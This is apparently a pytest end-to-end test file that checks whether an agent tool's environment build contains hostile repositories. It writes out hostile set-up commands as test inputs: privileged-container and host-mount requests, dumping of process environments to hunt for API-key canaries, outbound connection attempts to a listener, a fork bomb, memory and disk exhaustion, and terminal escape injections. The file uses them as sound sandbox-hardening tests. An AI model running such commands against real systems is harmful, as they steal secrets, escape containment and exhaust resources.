"""A repository that asks for more than it may, before any model has said a word.

What a hostile set-up saw it writes into the image: read there, it shows that it ran, and how far it came.
"""

from __future__ import annotations

import json
import re
import subprocess
from uuid import uuid4

import pytest

from tests.conftest import IMAGE, git
from tests.e2e.conftest import answer, call, write

pytestmark = [pytest.mark.slow, pytest.mark.docker, pytest.mark.timeout(400)]


@pytest.fixture
def build(machine, calculator):
    """`build({"file": "text"})`: what `env build` says to a repository with these files; or another `verb`."""

    def build(files: dict[str, str], verb: str = "build"):
        write(calculator, files)
        git(calculator, "add", "-A")
        git(calculator, "commit", "-qm", "More")
        machine.workspace = "docker"
        machine.extra["SWE_AGENT_IMAGE"] = ""  # of the tests' own; it would be used instead
        return machine.run("env", verb, "--repo", str(calculator), timeout=280)

    return build


SEEN = "/usr/local/seen"
PROCESSES = 200


@pytest.fixture
def seen(build, calculator, open_ws):
    """`seen({"file": "text"})`: what set-up wrote to SEEN, and a workspace of the image that was made."""
    made = {}

    def seen(files: dict[str, str]):
        done = build(files)
        assert done.returncode == 0, done.stderr
        found = re.search(r"swe-agent-environment/([0-9a-f]{24}):latest", done.stdout)
        assert found, done.stdout + done.stderr
        made[found[1]] = ws = open_ws("docker", calculator, image=found[0])
        return ws.run(f"cat {SEEN}").text, ws, done

    yield seen
    for key, ws in made.items():
        ws.close()
        named = ["docker", "images", "-q", "--filter", f"label=swe-agent.environment={key}"]
        ids = subprocess.run(named, check=True, capture_output=True, text=True).stdout.split()
        subprocess.run(["docker", "image", "rm", "-f", *dict.fromkeys(ids)], check=False, capture_output=True)


def devcontainer(command: str, **more: object) -> dict[str, str]:
    """One whose set-up runs `command`, which no environment was made with before."""
    said = {"image": IMAGE, "postCreateCommand": f"{command}\n: {uuid4()}", **more}
    return {".devcontainer/devcontainer.json": json.dumps(said)}


@pytest.mark.parametrize(
    "asked",
    [
        {"initializeCommand": "touch MARKER"},
        {"runArgs": ["--privileged", "--network=host"]},
        {"mounts": ["source=/,target=/host,type=bind"]},
        {"privileged": True},
        {"capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"]},
        {"workspaceMount": "source=/,target=/w,type=bind", "workspaceFolder": "/w"},
    ],
    ids=lambda asked: next(iter(asked)),
)
def test_devcontainer_that_asks_for_more(build, marker, asked):
    text = json.dumps({"image": IMAGE, **asked}).replace("MARKER", str(marker))
    assert build({".devcontainer/devcontainer.json": text}).returncode == 0
    said = build({"another": "commit\n"}, "why").stdout
    assert all(f"Refused: {name} " in said for name in asked if name != "workspaceFolder"), said
    assert not marker.exists()


FOREIGN = {
    "workspace": '"local"',
    "budget": "1000",
    "model": '"x"',
    "runtime": '"runc"',
    "registries": '["127.0.0.1:1"]',
    "certificates": '"/etc/passwd"',
    "setup_env": '{ A = "b" }',
    "services": '{ db = { image = "postgres" } }',
    "memory": '"64g"',
}


@pytest.mark.parametrize("name", FOREIGN)
def test_settings_file_that_asks_for_more(build, marker, name):
    toml = f"setup = 'touch {marker}'\n{name} = {FOREIGN[name]}\n"
    for verb in ("why", "build"):
        done = build({".swe-agent.toml": toml, "verb": verb}, verb)
        assert done.returncode != 0
        assert f".swe-agent.toml sets {name}; it may set image, setup and test only" in " ".join(done.stderr.split())
    assert not marker.exists()


def test_what_settings_file_may_ask_for_runs_in_container(seen, machine, marker):
    with (machine.home / "config.toml").open("a") as config:
        config.write(f'[images]\npython = "{IMAGE}"\n')
    touch = f"mkdir -p {marker.parent}; touch {marker}; ls {marker} > {SEEN}; cat /proc/1/cgroup /etc/hostname"
    told, _, _ = seen({".swe-agent.toml": f"setup = '''{touch}\n: {uuid4()}'''\n"})
    assert told == f"{marker}\n", "it ran, and had its file"
    assert not marker.exists()


def ways(listener) -> str:
    """A program that tries each address, itself and by the way to the registries, and writes down what came of it."""
    return f"""
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
def tried(way, host, port, said=b""):
    try:
        with socket.create_connection((host, port), 5) as peer:
            peer.sendall(said or b"out")
            return peer.recv(100).split(b"\\r\\n")[0].decode() if said else "REACHED"
    except OSError as error:
        return type(error).__name__
with open({SEEN!r}, "a") as seen:
    for host in {listener.addresses!r}:
        at = f"{{host}}:{listener.port}"
        print("direct", at, tried("direct", host, {listener.port}), file=seen)
        for line in (f"CONNECT {{at}} HTTP/1.1", f"GET http://{{at}}/x HTTP/1.1"):
            said = f"{{line}}\\r\\nHost: {{at}}\\r\\nConnection: close\\r\\n\\r\\n".encode()
            print("proxied", at, tried("proxied", proxy.hostname, proxy.port, said), file=seen)
"""


def reached_nobody(told: str, listener) -> None:
    """It tried all ways, was answered by the one to the registries, and none led to the listener."""
    lines = [line.split(" ", 2) for line in told.splitlines() if line.startswith(("direct ", "proxied "))]
    assert len(lines) == 3 * len(listener.addresses), told
    assert all(came in ("ConnectionRefusedError", "OSError") for way, _, came in lines if way == "direct"), told
    assert all(came.startswith("HTTP/1.1 403") for way, _, came in lines if way == "proxied"), told
    assert listener.visitors == []


def test_set_up_reaches_no_listener_and_sees_no_secret(seen, machine, listener):
    machine.extra |= {"OPENAI_API_KEY": "sk-the-canary-of-this-test", "MY_TOKEN": "the-canary-of-this-test"}
    command = f"env > {SEEN}; cat /proc/*/environ | tr '\\0' '\\n' >> {SEEN}\npython3 - <<'END'\n{ways(listener)}\nEND"
    told, ws, done = seen(devcontainer(command))
    assert "\nHTTPS_PROXY=http://127.0.0.1:" in told
    assert "canary" not in told + ws.run("env").text + done.stdout + done.stderr
    reached_nobody(told, listener)


def test_hostile_set_up_is_bounded(seen, machine):
    machine.extra |= {"SWE_AGENT_PROCESSES": str(PROCESSES), "SWE_AGENT_MEMORY": "300m"}
    bomb = f"""
import errno, os, time
made = []
try:
    while len(made) < 3000:
        made.append(os.fork())
        if made[-1] == 0:
            time.sleep(60); os._exit(0)
    came = "all of them"
except OSError as error:
    came = errno.errorcode[error.errno]
print("made", len(made), came, file=open({SEEN!r}, "a"), flush=True)
for pid in made:  # what is to come of set-up needs room
    os.kill(pid, 9)
    os.wait()
"""
    hog = f"x = bytearray(1 << 30); print('had it all', file=open({SEEN!r}, 'a'))"
    command = f"python3 -c \"{hog}\" || echo hog $? > {SEEN}\npython3 - <<'END'\n{bomb}\nEND"
    told, _, _ = seen(devcontainer(command))
    hog_came, bomb_came = told.splitlines()
    assert hog_came in ("hog 137", "hog 1"), "it is killed, or refused"
    word, made, came = bomb_came.split()
    assert (word, came) == ("made", "EAGAIN")
    assert 0 < int(made) < PROCESSES


def test_output_does_not_drive_terminal(machine, calculator, issue_file):
    evil = r"\033]0;owned\007\033]52;c;ZWNobw==\007\033[2J\033[1;1H\233\061\062;\x9b31m\033Pq\033\\visible"
    machine.workspace = "docker"
    script = machine.script(answer("\x1b]0;from the model\x07Look.", call("shell", command=f"printf '{evil}'")),
                            answer("Done.", call("submit")))  # fmt: skip
    done = machine.run("fix", "--repo", calculator, "--issue-file", issue_file, "--model", script, "--plain")
    shown = machine.run("show", machine.runs()[0].name)
    for text in (done.stdout, done.stderr, shown.stdout, shown.stderr):
        assert not {"\x1b", "\x07", "\x9b", "\x90"} & set(text)
    assert "visible" in shown.stdout + done.stderr


def test_dockerfile_that_lets_daemon_fetch(build, seen, machine, listener):
    """`ADD http://…` is done by the daemon, which has a network even where RUN has none."""
    adds = [f"ADD http://{host}:{listener.port}/x /x" for host in listener.addresses]
    said = build({"Dockerfile": "\n".join([f"FROM {IMAGE}", *adds, f"RUN : {uuid4()}"])}, "why").stdout
    assert "Dockerfile adds files from the network: it is ignored." in " ".join(said.split())
    first, *rest = ways(listener).replace("\\", "\\\\").strip().splitlines()
    program = "\\n".join([first, *rest]).replace("'", '"')
    run = f"RUN printf '%b' '{program}' > /tmp/ways && python3 /tmp/ways && echo {uuid4()} >> {SEEN}"
    told, _, _ = seen({"Dockerfile": f"FROM {IMAGE}\n{run}\n"})
    reached_nobody(told, listener)
    done = build({"Dockerfile": "\n".join([f"FROM {IMAGE}", *adds, run]) + "\n"})
    assert done.returncode == 0
    assert "swe-agent-environment/" not in done.stdout, "no line of a Dockerfile is run where one of it cannot be"
    assert listener.visitors == []


def test_devcontainer_that_asks_for_users_environment(seen, build, machine):
    machine.extra |= {"MY_TOKEN": "the-canary-of-this-test"}
    wants = {"A": "${localEnv:MY_TOKEN}", "B": "${env:MY_TOKEN}", "C": "plain", "GIT_DIR": "/nowhere"}
    files = devcontainer(f"env > {SEEN}", containerEnv=wants, remoteEnv={"D": "x${localEnv:MY_TOKEN}"},
                         onCreateCommand="echo ${localEnv:MY_TOKEN} > /usr/local/asked")  # fmt: skip
    told, ws, done = seen(files)
    variables = dict(line.partition("=")[::2] for line in told.splitlines())
    assert variables["C"] == "plain"
    assert not {"A", "B", "D", "MY_TOKEN"} & variables.keys()
    asked = ws.run("cat /usr/local/asked; env").text
    assert "No such file" in asked
    assert "canary" not in told + asked + done.stdout + done.stderr
    refused = build({"another": "commit\n"}, "why").stdout
    assert all(f"The variable {name!r} in " in refused for name in "ABD"), refused
    assert ws.snapshot().tree == ws.options.base.tree, "a GIT_DIR of theirs is none of ours"


def test_set_up_that_fills_disk(build, machine):
    machine.extra |= {"SWE_AGENT_IMAGE": "", "SWE_AGENT_DISK": "200m"}
    fill = f": {uuid4()}; for i in $(seq 20); do head -c 100000000 /dev/zero > /f$i; done"
    done = build({".devcontainer/devcontainer.json": json.dumps({"image": IMAGE, "postCreateCommand": fill})})
    assert "The disk is full" in done.stdout + done.stderr
